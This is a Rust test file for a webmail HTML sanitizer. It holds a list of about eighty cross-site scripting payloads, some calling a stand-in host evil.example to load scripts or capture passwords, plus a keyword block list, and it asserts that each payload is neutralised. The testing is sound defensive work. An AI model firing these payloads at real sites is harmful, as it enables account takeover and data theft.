use super::*;
use crate::db::Id;

/// What has been tried on others: from the OWASP cheat sheet, html5sec.org, and the reports on webmail of the last years.
const ATTACKS: &[&str] = &[
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/random>alert(1)</script>",
    "<script>alert(1)<!--",
    "<<SCRIPT>alert(1);//<</SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src=\"x\" OnError = 'alert(1)'>",
    "<img/src=x/onerror=alert(1)>",
    "<img src=`x`onerror=alert(1)>",
    "<img src=javascript:alert(1)>",
    "<img src=\"jav&#x09;ascript:alert(1);\">",
    "<img src=\" &#14; javascript:alert(1);\">",
    "<IMG SRC=&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)>",
    "<img src='data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+'>",
    "<img src='data:text/html,<script>alert(1)</script>'>",
    "<img srcset='javascript:alert(1) 1x'>",
    "<a href=javascript:alert(1)>x</a>",
    "<a href=' javascript:alert(1)'>x</a>",
    "<a href='java\nscript:alert(1)'>x</a>",
    "<a href='JaVaScRiPt:alert(1)'>x</a>",
    "<a href='&#x6A;avascript&colon;alert(1)'>x</a>",
    "<a href='vbscript:msgbox(1)'>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=='>x</a>",
    "<a href='  data:text/html,<script>alert(1)</script>'>x</a>",
    "<a href='/account/delete'>x</a>",
    "<a href='//evil.example'>x</a>",
    "<a href='/f/../../account'>x</a>",
    "<a href='x' onclick='alert(1)' onmouseover='alert(1)'>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<svg><animate attributeName=href values=javascript:alert(1)>",
    "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=1 onerror=alert(1)&gt;\">",
    "<math href='javascript:alert(1)'>x</math>",
    "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
    "<template><script>alert(1)</script></template>",
    "<xmp><p title=\"</xmp><svg/onload=alert(1)>\">",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='javascript:alert(1)'></object>",
    "<embed src='javascript:alert(1)'>",
    "<applet code='x'></applet>",
    "<form action='https://evil.example'><input name=password><button formaction='javascript:alert(1)'>x</button></form>",
    "<isindex action='javascript:alert(1)'>",
    "<textarea autofocus onfocus=alert(1)></textarea>",
    "<select autofocus onfocus=alert(1)></select>",
    "<details open ontoggle=alert(1)>x</details>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>x</body>",
    "<body background='javascript:alert(1)'>",
    "<meta http-equiv=refresh content='0;url=javascript:alert(1)'>",
    "<link rel=stylesheet href='https://evil.example/x.css'>",
    "<base href='https://evil.example/'>",
    "<style>@import 'https://evil.example/x.css';</style>",
    "<style>*{background:url(javascript:alert(1))}</style>",
    "<div style='background-image:url(javascript:alert(1))'>x</div>",
    "<div style='width:expression(alert(1))'>x</div>",
    "<div style='color:red;behavior:url(x.htc)'>x</div>",
    "<div style='position:fixed;top:0;left:0;z-index:9999'>x</div>",
    "<div style='-moz-binding:url(https://evil.example/x.xml#x)'>x</div>",
    "<div style='li\\73t-style:url(https://evil.example/)'>x</div>",
    "<div style='/*'style='*/background:url(https://evil.example)'>x</div>",
    "<table background='javascript:alert(1)'><td background='https://evil.example/x'>x</table>",
    "<bgsound src='javascript:alert(1)'>",
    "<marquee onstart=alert(1)>x</marquee>",
    "<input type=image src=x onerror=alert(1)>",
    "<frameset onload=alert(1)><frame src='javascript:alert(1)'></frameset>",
    "<?xml version='1.0'?><html:script xmlns:html='http://www.w3.org/1999/xhtml'>alert(1)</html:script>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<!--><img src=x onerror=alert(1)>-->",
    "<p id='location' class='modal' name='x'>x</p>",
    "<map name=m><area href='javascript:alert(1)'></map>",
    "<a ping='https://evil.example' href='https://example.com' target='_top'>x</a>",
    "<div><table><td><img src='x' onerror\u{c}=alert(1)>",
    "\u{0}<scr\u{0}ipt>alert(1)</scr\u{0}ipt>",
];

#[test]
fn nothing_of_an_attack_is_left() {
    for attack in ATTACKS {
        let safe = sanitize(attack);
        // As a browser reads it: what stands in text is only shown.
        let markup: String = tags(&safe).to_ascii_lowercase();
        for word in [
            "script",
            "alert",
            " on",
            "style=\"p",
            "expression",
            "url(",
            "behavior",
            "evil",
            "data:",
            "<svg",
            "<math",
            "<form",
            "<input",
            "<iframe",
            "<meta",
            "<base",
            "<link",
            "id=",
            "class=",
            "name=",
            "target",
            "srcset",
            "/account",
            "position",
        ] {
            let is_kept_link = word == "evil" && !markup.contains("script");
            assert!(!markup.contains(word) || (is_kept_link && !attack.contains("ping")), "{attack} became {safe}");
        }
        assert_eq!(sanitize(&safe), safe, "what is safe is not changed again: {attack}");
    }
}

/// The tags of well-formed HTML, without the text between them.
fn tags(html: &str) -> String {
    let mut tags = String::new();
    let mut rest = html;
    while let Some((_, after)) = rest.split_once('<') {
        let (tag, tail) = after.split_once('>').unwrap_or((after, ""));
        tags.push('<');
        tags.push_str(tag);
        tags.push('>');
        rest = tail;
    }
    tags
}

#[test]
fn links_that_leave_the_page_stay_and_those_within_it_go() {
    let kept = [
        (r#"<a href="https://example.com/?a=b&amp;c=d">x</a>"#, r#"href="https://example.com/?a=b&amp;c=d""#),
        (r#"<a href="mailto:jane@example.com">x</a>"#, r#"href="mailto:jane@example.com""#),
        (r#"<img src="https://example.com/x.png" alt="x">"#, r#"src="https://example.com/x.png""#),
        (r#"<img src="data:image/PNG;base64,iVBORw0KGgo=">"#, r#"src="data:image/PNG;base64,iVBORw0KGgo=""#),
        (r#"<img src="cid:logo@example.com">"#, r#"src="cid:logo@example.com""#),
        (r#"<img src="/f/dd_file_0123_abc">"#, r#"src="/f/dd_file_0123_abc""#),
    ];
    for (given, part) in kept {
        assert!(sanitize(given).contains(part), "{given}: {}", sanitize(given));
    }
    for gone in ["/account", "account", "?logout", "#top", "//evil.example", "/f/", "/f/x?y", "../f/x"] {
        let link = sanitize(&format!("<a href=\"{gone}\">x</a>"));
        assert_eq!(link, r#"<a rel="noopener noreferrer">x</a>"#, "{gone}");
    }
}

#[test]
fn the_layout_of_mail_stays() {
    let mail = concat!(
        r##"<table width="600" cellpadding="0" cellspacing="0" border="0" align="center" bgcolor="#ffffff"><tbody><tr>"##,
        r#"<td width="50%" valign="top" style="padding:10px;font-family:Arial">"#,
        r#"<font color="red" face="Arial" size="2">Hello</font><br><img src="https://example.com/x.png" width="10" height="10">"#,
        "</td></tr></tbody></table>",
    );
    let safe = sanitize(mail);
    for part in [
        "<table",
        "cellpadding=\"0\"",
        "bgcolor=\"#ffffff\"",
        "valign=\"top\"",
        "padding:10px",
        "font-family:Arial",
        "<font",
        "size=\"2\"",
        "<img",
    ] {
        assert!(safe.contains(part), "{part}: {safe}");
    }
    let page = "<html><head><title>Not text</title><style>p{color:red}</style></head><body bgcolor=red><p>Text</p></body></html>";
    assert_eq!(sanitize(page), "<p>Text</p>");
}

#[test]
fn html_that_nobody_wrote_to_be_read_is_text() {
    let deep = format!("{}1 &lt; 2<script>", "<div>".repeat(90_000));
    assert_eq!((sanitize(&deep).as_str(), to_text(&deep).as_str()), ("1 &lt; 2", "1 < 2"));
}

#[test]
fn text_reads_as_it_is_seen() {
    let cases = [
        ("", ""),
        ("plain &amp; simple &lt;b&gt;", "plain & simple <b>"),
        ("<p>One</p><p>Two</p>", "One\n\nTwo"),
        ("a<br>b<br/><br>c<br><br><br>d", "a\nb\n\nc\n\nd"),
        ("<div>a</div><div>b <b>c</b>d</div>", "a\nb cd"),
        ("  a \n\t b&nbsp;&nbsp;c ", "a b c"),
        ("<ul><li>one</li><li>two</li></ul>", "one\ntwo"),
        ("<table><tr><td>1</td><td>2</td></tr><tr><td>3</td></tr></table>", "1 2\n3"),
        ("<pre>a\n  b</pre>c", "a\n  b\n\nc"),
        ("<style>p{}</style><script>x</script><title>t</title>Hello<!-- x -->", "Hello"),
        ("&amp;lt;script&amp;gt;", "&lt;script&gt;"),
        ("Grüße<p>1 &lt; 2", "Grüße\n\n1 < 2"),
        ("<a href='https://example.com'>link</a> and <img alt='x' src='y'>", "link and"),
    ];
    for (html, text) in cases {
        assert_eq!(to_text(html), text, "{html}");
    }
}

#[test]
fn pictures_that_are_attached_are_shown() {
    let file = |n: u8, name: &str, url: Option<&str>| Attachment {
        file_id: Id::from_bytes([n; 16]),
        name: name.into(),
        content_type: "image/png".into(),
        size: 1,
        sha256: String::new(),
        url: url.map(str::to_owned),
        is_inline: false,
        quarantined: url.is_none(),
    };
    let mut files = [
        file(1, "logo.png", Some("/f/one")),
        file(2, "b.png", Some("/f/two")),
        file(3, "c.png", None),
        file(4, "d.png", Some("/f/four")),
    ];
    let html = format!(
        "<img src=\"cid:logo.png\"><img src='cid:{}'><img src=cid:c.png><img src=\"cid:other@x\">cid:",
        files[1].file_id
    );
    let shown = with_pictures(&html, &mut files);
    assert_eq!(shown, "<img src=\"/f/one\"><img src='/f/two'><img src=cid:c.png><img src=\"cid:other@x\">cid:");
    assert_eq!(files.map(|file| file.is_inline), [true, true, false, false]);
}
